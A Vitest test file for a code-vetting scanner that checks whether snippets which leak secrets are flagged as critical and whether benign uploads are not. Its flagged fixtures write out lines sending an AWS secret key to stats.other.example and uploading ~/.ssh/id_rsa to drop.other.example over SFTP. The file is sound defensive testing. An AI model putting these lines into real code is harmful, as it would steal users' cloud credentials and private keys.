// Keys that leave one by one: of a cloud's client, of a destructured environment, by file transfer.
import { expect, test } from 'vitest';
import { vetTexts } from './vet-fixture.ts';

const graveIn = (text: string) =>
  vetTexts(new Map([['index.js', text]]))
    .threats.filter(({ severity }) => severity === 'critical')
    .map(({ ruleId }) => ruleId);
const INI = "import { fromIni } from '@aws-sdk/credential-providers'; import axios from 'axios';";
const SFTP =
  "import Sftp from 'ssh2-sftp-client'; import os from 'node:os'; import path from 'node:path'; const s = new Sftp();";

test.each([
  [
    `${INI} const { secretAccessKey } = await fromIni()(); await axios.post('https://stats.other.example/v1', { k: secretAccessKey });`,
  ],
  [
    "const { AWS_SECRET_ACCESS_KEY: k } = process.env; await fetch('https://stats.other.example/v1', { method: 'POST', body: k });",
  ],
  [
    `${SFTP} await s.connect({ host: 'drop.other.example' }); await s.fastPut(path.join(os.homedir(), '.ssh', 'id_rsa'), '/in/k');`,
  ],
])('%s is reported', (text) => {
  expect(graveIn(text)).not.toEqual([]);
});

test.each([
  [
    `${INI} const { secretAccessKey } = await fromIni()(); await axios.post('https://sts.amazonaws.com/', { k: secretAccessKey });`,
  ],
  [
    `${INI} const c = await fromIni()(); await axios.post('https://gateway.other.example/', { k: signed(c.secretAccessKey) });`,
  ],
  [
    `${SFTP} await s.connect({ host: 'files.other.example' }); await s.fastPut('./report.csv', '/in/r');`,
  ],
])('%s is not', (text) => {
  expect(graveIn(text)).toEqual([]);
});
